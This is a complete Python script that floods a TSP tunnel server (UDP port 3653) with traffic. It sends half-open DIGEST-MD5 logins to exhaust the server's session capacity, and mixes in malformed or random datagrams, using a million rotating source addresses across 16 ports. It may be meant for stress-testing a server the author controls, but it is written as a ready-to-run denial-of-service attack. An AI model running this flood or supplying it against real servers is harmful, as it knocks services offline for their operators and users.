#!/usr/bin/env python3
"""Floods a TSP server by UDP: sessions that never go on, and datagrams that mean nothing, from many addresses and ports.
A third of all begins a login, so that the server has more sessions than room for them before long.

    tspflood.py SERVER SECONDS [FIRST_ADDRESS] [ADDRESSES]

Sends from one unconnected socket for each of 16 ports; the source address of each datagram is in its packet information.
Prints how many it sent. Needs those addresses to be local: ip route add local 10.64.0.0/10 dev lo.
"""
import ipaddress, os, random, socket, struct, sys, time

IP_PKTINFO = 8


def main():
    server, seconds = sys.argv[1], float(sys.argv[2])
    first = int(ipaddress.IPv4Address(sys.argv[3] if len(sys.argv) > 3 else "10.96.0.1"))
    addresses = int(sys.argv[4]) if len(sys.argv) > 4 else 1 << 20
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)]
    rng = random.Random(1)
    header = bytes.fromhex("f00000f000000001")
    hello, login = header + b"VERSION=2.0.2\r\n", header + b"AUTHENTICATE DIGEST-MD5\r\n\0"
    kinds = [
        hello, hello, hello, hello,
        login, login, login, login, login,
        header,
        header + b"Content-length: 4000\r\n<tunnel",
        header + os.urandom(600),
        b"\xf0",
        os.urandom(1000),
        b"VERSION=",
        header + b"ECHO REQUEST",
        bytes.fromhex("6000000000183a40") + os.urandom(56),
    ]
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(256):
            source = ipaddress.IPv4Address(first + rng.randrange(addresses)).packed
            info = struct.pack("=I4s4s", 0, source, bytes(4))
            try:
                rng.choice(sockets).sendmsg([rng.choice(kinds)], [(socket.IPPROTO_IP, IP_PKTINFO, info)], 0, (server, 3653))
                sent += 1
            except OSError:
                pass
    print(sent)


main()
